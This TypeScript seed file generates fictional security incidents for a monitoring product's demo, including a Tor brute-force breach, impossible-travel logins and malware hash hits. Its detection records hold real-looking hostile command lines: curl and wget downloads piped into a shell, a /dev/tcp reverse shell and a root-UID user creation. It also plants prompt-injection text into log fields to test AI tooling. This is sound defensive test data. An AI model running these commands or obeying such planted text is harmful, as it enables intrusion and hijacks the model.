/**
 * The stories the demo is for: hand-written incidents with their linked auth events,
 * at fixed offsets from the seed's base time, plus an alert for every severity ×
 * category. The bulk volume around them comes from bulk.ts.
 *
 * The product page's investigation routine asks about 185.220.101.42: here it scans
 * acme's VPN two days ago (acknowledged by the MSP technician), brute-forces four
 * acme hosts in the last 24 hours, gets in on bastion-01 as `deploy`, and creates
 * an admin user; it also hit eu-bank five days ago.
 */
import type { Queryable } from '../db/types.js';
import { ALERT_DETAIL, ALERT_TITLES, CATEGORIES, PLANTED_INJECTIONS, SEVERITIES, MALWARE_HASHES, type Sev } from './catalog.js';
import { iso, type SeededAgent, type SeededTenant } from './fleet.js';
import { insertRows, type Column, type Rng, type SeedSource } from './random.js';

const MIN = 60_000;
const HOUR = 60 * MIN;
const DAY = 24 * HOUR;

/** The Tor exit of the product page's routine. */
export const TOR_EXIT_IP = '185.220.101.42';

const DETECTION_COLUMNS: readonly Column[] = [
  ['tenant_id', 'uuid'], ['id', 'uuid'], ['agent_id', 'uuid'], ['kind', 'text'], ['severity', 'text'], ['title', 'text'], ['description', 'text'],
  ['src_ip', 'text'], ['src_country', 'text'], ['target_user', 'text'], ['process_cmdline', 'text'], ['user_agent', 'text'],
  ['detected_at', 'timestamptz'], ['acked_at', 'timestamptz'], ['acked_by', 'uuid'], ['ack_note', 'text'],
];
const AUTH_COLUMNS: readonly Column[] = [
  ['tenant_id', 'uuid'], ['id', 'uuid'], ['agent_id', 'uuid'], ['occurred_at', 'timestamptz'], ['username', 'text'], ['src_ip', 'text'],
  ['src_country', 'text'], ['method', 'text'], ['success', 'boolean'], ['detection_id', 'uuid'],
];
const ALERT_COLUMNS: readonly Column[] = [
  ['tenant_id', 'uuid'], ['id', 'uuid'], ['agent_id', 'uuid'], ['severity', 'text'], ['category', 'text'], ['title', 'text'], ['description', 'text'],
  ['status', 'text'], ['created_at', 'timestamptz'], ['resolved_at', 'timestamptz'],
];

interface Detection {
  key: string;
  host: string;
  kind: string;
  severity: Sev;
  title: string;
  description: string;
  at: number;
  srcIp?: string;
  srcCountry?: string;
  targetUser?: string;
  cmdline?: string;
  userAgent?: string;
  ack?: { by: string; after: number; note: string };
}

interface Auth {
  host: string;
  at: number;
  username: string;
  srcIp: string;
  srcCountry: string;
  method: 'ssh_password' | 'ssh_key' | 'sudo' | 'rdp' | 'web';
  success: boolean;
  detection?: string;
}

/** Collects one tenant's story rows, then writes them in a few multi-row statements. */
class Story {
  readonly detections: unknown[][] = [];
  readonly auth: unknown[][] = [];
  readonly alerts: unknown[][] = [];
  private authN = 0;
  readonly rng: Rng;

  constructor(
    private readonly src: SeedSource,
    readonly tenant: SeededTenant,
    readonly base: number,
  ) {
    this.rng = src.rng(`story:${tenant.spec.slug}`);
  }

  agent(short: string): SeededAgent {
    const a = this.tenant.agents.find((x) => x.hostname === `${short}.${this.tenant.spec.domain}`);
    if (!a) throw new Error(`seed: story host ${short} missing in ${this.tenant.spec.slug}`);
    return a;
  }

  user(key: string): string {
    const m = this.tenant.members.find((x) => x.key === key);
    if (!m) throw new Error(`seed: story user ${key} is not in ${this.tenant.spec.slug}`);
    return m.id;
  }

  detectionId(key: string): string {
    return this.src.id(`story:detection:${this.tenant.spec.slug}:${key}`);
  }

  detection(d: Detection): string {
    const id = this.detectionId(d.key);
    const at = this.base - d.at;
    this.detections.push([
      this.tenant.id, id, this.agent(d.host).id, d.kind, d.severity, d.title, d.description, d.srcIp ?? null, d.srcCountry ?? null,
      d.targetUser ?? null, d.cmdline ?? null, d.userAgent ?? null, iso(at),
      d.ack ? iso(at + d.ack.after) : null, d.ack ? this.user(d.ack.by) : null, d.ack?.note ?? null,
    ]);
    return id;
  }

  login(a: Auth): void {
    const id = this.src.id(`story:auth:${this.tenant.spec.slug}:${this.authN++}`);
    this.auth.push([
      this.tenant.id, id, this.agent(a.host).id, iso(this.base - a.at), a.username, a.srcIp, a.srcCountry, a.method, a.success,
      a.detection ? this.detectionId(a.detection) : null,
    ]);
  }

  alert(key: string, host: SeededAgent, severity: Sev, category: string, title: string, description: string, ago: number, resolvedAfter?: number): void {
    this.alerts.push([
      this.tenant.id, this.src.id(`story:alert:${this.tenant.spec.slug}:${key}`), host.id, severity, category, title, description,
      resolvedAfter === undefined ? 'open' : 'resolved', iso(this.base - ago), resolvedAfter === undefined ? null : iso(this.base - ago + resolvedAfter),
    ]);
  }

  /** A burst of failed SSH password logins from one address, linked to its detection; returns when it ended (ms ago). */
  bruteForce(key: string, host: string, ip: string, country: string, startAgo: number, users: readonly string[], attempts: number): number {
    let at = startAgo;
    for (let i = 0; i < attempts; i++) {
      at -= this.rng.int(5, 25) * 1000;
      this.login({ host, at, username: users[i % users.length]!, srcIp: ip, srcCountry: country, method: 'ssh_password', success: false, detection: key });
    }
    return at;
  }

  async write(tx: Queryable): Promise<{ detections: number; authEvents: number; alerts: number }> {
    await insertRows(tx, 'detected_events', DETECTION_COLUMNS, this.detections);
    await insertRows(tx, 'auth_events', AUTH_COLUMNS, this.auth);
    await insertRows(tx, 'alerts', ALERT_COLUMNS, this.alerts);
    return { detections: this.detections.length, authEvents: this.auth.length, alerts: this.alerts.length };
  }
}

const BRUTE_USERS = ['root', 'admin', 'ubuntu', 'deploy', 'test', 'oracle', 'postgres', 'git', 'user', 'pi'];

function acmeStory(s: Story): void {
  // Recon two days ago, acknowledged by the MSP technician as routine Tor noise.
  s.detection({
    key: 'tor-scan', host: 'vpn-01', kind: 'port_scan', severity: 'low', at: 2 * DAY,
    title: `Port scan from ${TOR_EXIT_IP}`, description: `SYN scan of 1,024 TCP ports on vpn-01 from ${TOR_EXIT_IP} (Tor exit node, DE) in 40 seconds.`,
    srcIp: TOR_EXIT_IP, srcCountry: 'DE', ack: { by: 'tech', after: 26 * HOUR, note: 'Tor exit scanning the perimeter; firewall drops it.' },
  });
  // Brute force against four hosts in the last 24 hours; bastion-01 falls.
  const targets = ['bastion-01', 'web-01', 'web-02', 'vpn-01'];
  let bastionEnd = 0;
  targets.forEach((host, i) => {
    const key = `tor-bruteforce-${host}`;
    const start = 7 * HOUR - i * 25 * MIN;
    const attempts = 45 + s.rng.int(0, 25);
    const end = s.bruteForce(key, host, TOR_EXIT_IP, 'DE', start, BRUTE_USERS, attempts);
    if (host === 'bastion-01') bastionEnd = end;
    const breached = host === 'bastion-01';
    s.detection({
      key, host, kind: 'ssh_brute_force', severity: breached ? 'critical' : 'high', at: end - 30_000,
      title: `SSH brute force from ${TOR_EXIT_IP} against ${host}`,
      description:
        `${attempts} failed SSH password logins for ${Math.min(attempts, BRUTE_USERS.length)} user names from ${TOR_EXIT_IP} (Tor exit node, DE).` +
        (breached ? ' A login as deploy succeeded 4 minutes after the burst.' : ''),
      srcIp: TOR_EXIT_IP, srcCountry: 'DE', targetUser: 'root',
    });
  });
  const success = bastionEnd - 4 * MIN;
  s.login({ host: 'bastion-01', at: success, username: 'deploy', srcIp: TOR_EXIT_IP, srcCountry: 'DE', method: 'ssh_password', success: true, detection: 'tor-bruteforce-bastion-01' });
  s.login({ host: 'bastion-01', at: success - 6 * MIN, username: 'deploy', srcIp: TOR_EXIT_IP, srcCountry: 'DE', method: 'sudo', success: true, detection: 'tor-new-admin' });
  s.detection({
    key: 'tor-new-admin', host: 'bastion-01', kind: 'new_admin_user', severity: 'high', at: success - 7 * MIN,
    title: 'New admin user svc-backup2 created on bastion-01',
    description: 'User svc-backup2 was created and added to the sudo group by deploy, in a session from 185.220.101.42.',
    srcIp: TOR_EXIT_IP, srcCountry: 'DE', targetUser: 'svc-backup2', cmdline: 'useradd -m -s /bin/bash -G sudo svc-backup2',
  });
  s.alert('bastion-breach', s.agent('bastion-01'), 'critical', 'intrusion', 'Successful SSH login after brute force from 185.220.101.42',
    'deploy logged in on bastion-01 with a password from a Tor exit node minutes after 50+ failed attempts.', bastionEnd - 5 * MIN);

  // Impossible travel: Amsterdam, then Singapore 38 minutes later.
  s.login({ host: 'vpn-01', at: 9 * HOUR, username: 'p.jansen', srcIp: '145.53.12.34', srcCountry: 'NL', method: 'web', success: true, detection: 'travel' });
  s.login({ host: 'vpn-01', at: 9 * HOUR - 38 * MIN, username: 'p.jansen', srcIp: '103.6.150.77', srcCountry: 'SG', method: 'web', success: true, detection: 'travel' });
  s.detection({
    key: 'travel', host: 'vpn-01', kind: 'impossible_travel', severity: 'high', at: 9 * HOUR - 37 * MIN,
    title: 'Impossible travel for p.jansen (NL \u2192 SG in 38 minutes)',
    description: 'p.jansen signed in to the VPN portal from Amsterdam, NL (145.53.12.34) and 38 minutes later from Singapore, SG (103.6.150.77), about 10,500 km apart.',
    srcIp: '103.6.150.77', srcCountry: 'SG', targetUser: 'p.jansen',
    userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  });

  // A dropper piped into sh on a web server, and a reverse shell on a k8s node.
  s.detection({
    key: 'curl-sh', host: 'web-03', kind: 'suspicious_process', severity: 'critical', at: 3 * HOUR + 12 * MIN,
    title: 'Remote script piped into a shell on web-03',
    description: 'www-data ran a script downloaded from 45.137.21.9 straight into sh (parent: php-fpm).',
    srcIp: '45.137.21.9', srcCountry: 'NL', targetUser: 'www-data', cmdline: 'curl -fsSL http://45.137.21.9/x.sh | sh', userAgent: 'curl/7.88.1',
  });
  s.detection({
    key: 'reverse-shell', host: 'k8s-node-02', kind: 'suspicious_process', severity: 'high', at: 2 * DAY + 5 * HOUR,
    title: 'Reverse shell from k8s-node-02 to 92.118.39.61:4444',
    description: 'An interactive bash was connected to a remote TCP socket from a container on k8s-node-02.',
    srcIp: '92.118.39.61', srcCountry: 'NL', targetUser: 'root', cmdline: 'bash -i >& /dev/tcp/92.118.39.61/4444 0>&1',
    ack: { by: 'acme-admin', after: 50 * MIN, note: 'Red-team exercise (ticket SEC-2291).' },
  });

  // Malware: a cryptominer now, an old Mirai sample cleaned up.
  const [xmrig, mirai] = [MALWARE_HASHES[0], MALWARE_HASHES[1]];
  s.detection({
    key: 'xmrig', host: 'k8s-node-04', kind: 'malware_hash', severity: 'critical', at: 30 * HOUR,
    title: 'Known malware hash on k8s-node-04 (XMRig cryptominer)',
    description: `SHA-256 ${xmrig[1]} of /tmp/.x/kworkerds matches the XMRig cryptominer.`,
    targetUser: 'nobody', cmdline: '/tmp/.x/kworkerds -o pool.minexmr.com:4444 --donate-level 1',
  });
  s.alert('xmrig', s.agent('k8s-node-04'), 'critical', 'malware', 'Cryptominer binary xmrig quarantined', `Quarantined /tmp/.x/kworkerds (SHA-256 ${xmrig[1]}).`, 30 * HOUR - 2 * MIN);
  s.detection({
    key: 'mirai', host: 'web-04', kind: 'malware_hash', severity: 'high', at: 20 * DAY,
    title: 'Known malware hash on web-04 (Mirai)', description: `SHA-256 ${mirai[1]} of /var/tmp/.mi matches a Mirai botnet sample.`,
    cmdline: '/var/tmp/.mi', ack: { by: 'acme-admin', after: 3 * HOUR, note: 'Quarantined; host reimaged.' },
  });

  // Port scans from outside and from an internal host.
  for (const [i, host] of ['mail-01', 'vpn-01', 'bastion-01'].entries()) {
    s.detection({
      key: `scan-ext-${i}`, host, kind: 'port_scan', severity: 'medium', at: (1 + i * 2) * DAY + 4 * HOUR,
      title: 'Port scan from 45.155.205.233', description: `SYN scan of 65,535 TCP ports on ${host} from 45.155.205.233 (RU).`,
      srcIp: '45.155.205.233', srcCountry: 'RU', userAgent: 'masscan/1.3',
    });
  }
  s.detection({
    key: 'scan-int', host: 'db-prod-01', kind: 'port_scan', severity: 'high', at: 4 * HOUR + 40 * MIN,
    title: 'Internal port scan from 10.20.1.9', description: 'web-02 (10.20.1.9) probed 5432, 3306, 6379 and 22 on 30 internal hosts.',
    srcIp: '10.20.1.9', srcCountry: 'NL',
  });
  s.detection({
    key: 'ansible-admin', host: 'db-prod-02', kind: 'new_admin_user', severity: 'medium', at: 12 * DAY,
    title: 'New admin user monitoring added to wheel on db-prod-02', description: 'User monitoring was added to the wheel group by ansible.',
    srcIp: '10.20.1.6', srcCountry: 'NL', targetUser: 'monitoring', cmdline: 'usermod -aG wheel monitoring',
    ack: { by: 'acme-admin', after: 25 * MIN, note: 'Expected: Ansible change CHG-1042.' },
  });

  // Attacker-controlled text written to read like instructions (the tools must fence it).
  s.bruteForce('injection-user', 'web-04', '80.94.95.202', 'RO', 11 * HOUR, [PLANTED_INJECTIONS.targetUser], 12);
  s.detection({
    key: 'injection-user', host: 'web-04', kind: 'ssh_brute_force', severity: 'medium', at: 11 * HOUR - 6 * MIN,
    title: 'SSH brute force from 80.94.95.202 against web-04', description: '12 failed SSH password logins for one unusual user name from 80.94.95.202 (RO).',
    srcIp: '80.94.95.202', srcCountry: 'RO', targetUser: PLANTED_INJECTIONS.targetUser,
  });
  s.detection({
    key: 'injection-cmdline', host: 'k8s-node-03', kind: 'suspicious_process', severity: 'high', at: 7 * HOUR + 20 * MIN,
    title: 'Shell spawned by a web container on k8s-node-03', description: 'A container started /bin/sh with an unusual argument.',
    targetUser: 'app', cmdline: PLANTED_INJECTIONS.processCmdline,
  });
  s.detection({
    key: 'injection-ua', host: 'web-02', kind: 'port_scan', severity: 'low', at: 20 * HOUR,
    title: 'HTTP path sweep from 162.142.125.211', description: '412 requests for admin paths on web-02 from 162.142.125.211 (US) in 2 minutes.',
    srcIp: '162.142.125.211', srcCountry: 'US', userAgent: PLANTED_INJECTIONS.userAgent,
  });
  s.alert('injection', s.agent('web-01'), 'high', 'intrusion', 'WAF blocked a request with an embedded script', PLANTED_INJECTIONS.alertDescription, 16 * HOUR);
}

function euBankStory(s: Story): void {
  const end = s.bruteForce('tor-bruteforce', 'bastion-01', TOR_EXIT_IP, 'DE', 5 * DAY, BRUTE_USERS, 30);
  s.detection({
    key: 'tor-bruteforce', host: 'bastion-01', kind: 'ssh_brute_force', severity: 'high', at: end - 30_000,
    title: `SSH brute force from ${TOR_EXIT_IP} against bastion-01`, description: `30 failed SSH password logins for 10 user names from ${TOR_EXIT_IP} (Tor exit node, DE).`,
    srcIp: TOR_EXIT_IP, srcCountry: 'DE', targetUser: 'root', ack: { by: 'eubank-admin', after: 2 * HOUR, note: 'Blocked at the perimeter; no successful login.' },
  });
  s.login({ host: 'vpn-01', at: 26 * HOUR, username: 'm.schmidt', srcIp: '193.108.44.20', srcCountry: 'DE', method: 'web', success: true, detection: 'travel' });
  s.login({ host: 'vpn-01', at: 26 * HOUR - 52 * MIN, username: 'm.schmidt', srcIp: '177.54.144.9', srcCountry: 'BR', method: 'web', success: true, detection: 'travel' });
  s.detection({
    key: 'travel', host: 'vpn-01', kind: 'impossible_travel', severity: 'high', at: 26 * HOUR - 51 * MIN,
    title: 'Impossible travel for m.schmidt (DE \u2192 BR in 52 minutes)', description: 'm.schmidt signed in from Frankfurt, DE and 52 minutes later from S\u00e3o Paulo, BR.',
    srcIp: '177.54.144.9', srcCountry: 'BR', targetUser: 'm.schmidt',
  });
  s.detection({
    key: 'new-admin', host: 'db-prod-01', kind: 'new_admin_user', severity: 'high', at: 3 * DAY,
    title: 'New admin user oracle2 created on db-prod-01', description: 'User oracle2 was created with UID 0 outside a change window.',
    srcIp: '172.16.1.14', srcCountry: 'DE', targetUser: 'oracle2', cmdline: 'useradd -o -u 0 oracle2',
  });
  s.detection({
    key: 'miner', host: 'k8s-node-01', kind: 'malware_hash', severity: 'critical', at: 6 * DAY,
    title: 'Known malware hash on k8s-node-01 (Kinsing)', description: `SHA-256 ${MALWARE_HASHES[2][1]} of /tmp/kdevtmpfsi matches Kinsing.`,
    cmdline: '/tmp/kdevtmpfsi', ack: { by: 'tech', after: 40 * MIN, note: 'Pod deleted, image rebuilt.' },
  });
  s.detection({
    key: 'proc', host: 'web-01', kind: 'suspicious_process', severity: 'high', at: 13 * HOUR,
    title: 'Download piped into bash on web-01', description: 'A cron job fetched and ran a remote script.',
    srcIp: '194.26.29.113', srcCountry: 'RU', targetUser: 'www-data', cmdline: 'wget -qO- http://194.26.29.113/k.sh | bash', userAgent: 'Wget/1.21.3',
  });
  s.detection({
    key: 'scan', host: 'mail-01', kind: 'port_scan', severity: 'low', at: 8 * HOUR,
    title: 'Port scan from 167.94.138.35', description: 'Censys research scan of 12 ports on mail-01.', srcIp: '167.94.138.35', srcCountry: 'US',
  });
  s.alert('injection', s.agent('web-02'), 'medium', 'intrusion', 'Suspicious text in a support form', PLANTED_INJECTIONS.alertDescription, 2 * DAY);
}

function govStory(s: Story): void {
  const end = s.bruteForce('bruteforce', 'bastion-01', '61.177.172.140', 'CN', 30 * HOUR, BRUTE_USERS, 25);
  s.detection({
    key: 'bruteforce', host: 'bastion-01', kind: 'ssh_brute_force', severity: 'medium', at: end - 30_000,
    title: 'SSH brute force from 61.177.172.140 against bastion-01', description: '25 failed SSH password logins from 61.177.172.140 (CN).',
    srcIp: '61.177.172.140', srcCountry: 'CN', targetUser: 'root',
  });
  s.detection({
    key: 'scan', host: 'mail-01', kind: 'port_scan', severity: 'low', at: 3 * DAY, title: 'Port scan from 71.6.199.23',
    description: 'Shodan scan of 40 ports on mail-01.', srcIp: '71.6.199.23', srcCountry: 'US', ack: { by: 'gov-admin', after: HOUR, note: 'Internet background noise.' },
  });
}

/** One alert per severity × category open in the last days and one resolved, on random hosts of the tenant. */
function alertMatrix(s: Story): void {
  let n = 0;
  for (const category of CATEGORIES) {
    for (const severity of SEVERITIES) {
      for (const open of [true, false]) {
        const host = s.rng.pick(s.tenant.agents);
        const title = ALERT_TITLES[category][n % 5]!;
        const ago = open ? s.rng.int(10, 3 * 24 * 60) * MIN : s.rng.int(4 * 24 * 60, 29 * 24 * 60) * MIN;
        s.alert(`matrix-${n++}`, host, severity, category, title, `${title} on ${host.hostname}. ${ALERT_DETAIL[category]}`, ago, open ? undefined : s.rng.int(20, 600) * MIN);
      }
    }
  }
}

export async function seedStories(tx: Queryable, src: SeedSource, base: number, tenants: SeededTenant[]) {
  const totals = { detections: 0, authEvents: 0, alerts: 0 };
  const stories: Record<string, (s: Story) => void> = { acme: acmeStory, 'eu-bank': euBankStory, 'gov-agency': govStory };
  for (const tenant of tenants) {
    const s = new Story(src, tenant, base);
    stories[tenant.spec.slug]?.(s);
    alertMatrix(s);
    const n = await s.write(tx);
    totals.detections += n.detections;
    totals.authEvents += n.authEvents;
    totals.alerts += n.alerts;
  }
  return totals;
}
